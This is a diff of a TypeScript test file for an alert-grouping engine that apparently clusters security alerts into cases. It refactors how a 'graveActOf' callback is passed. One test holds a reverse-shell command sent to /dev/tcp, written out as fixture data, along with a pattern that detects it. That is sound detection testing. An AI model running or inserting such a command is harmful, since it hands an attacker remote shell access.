@@ -23,10 +23,14 @@ const engine = (options: Partial<GroupingOptions> = {}) =>
   new GroupingEngine({ ...defaultGrouping, ...options }, countingIds())
 
 /** The alerts' cases as letters: `aab`. */
-function grouped(alerts: readonly Alert[], options: Partial<GroupingOptions> = {}): string {
+function grouped(
+  alerts: readonly Alert[],
+  options: Partial<GroupingOptions> = {},
+  graveActOf?: (alert: Alert) => string,
+): string {
   const names = new Map<string, string>()
   return engine(options)
-    .assign(alerts)
+    .assign(alerts, graveActOf)
     .assignments.map(({ caseId }) => {
       const name = names.get(caseId) ?? String.fromCharCode(97 + names.size)
       names.set(caseId, name)
@@ -209,7 +213,7 @@ describe('what an attacker cannot glue together', () => {
     const graveActOf = ({ document }: Alert) =>
       JSON.stringify(document).includes('/dev/tcp/') ? 'reverse-shell' : ''
     const stream = [run('ls', 0), run('ls', 1), run('bash -i >& /dev/tcp/203.0.113.9/1', 2), run('ls', 3)]
-    expect(grouped(stream, { graveActOf })).toBe('aaba')
+    expect(grouped(stream, {}, graveActOf)).toBe('aaba')
   })
   it('audited commands of two accounts', () => {
     const run = (uid: string, auid: string) =>
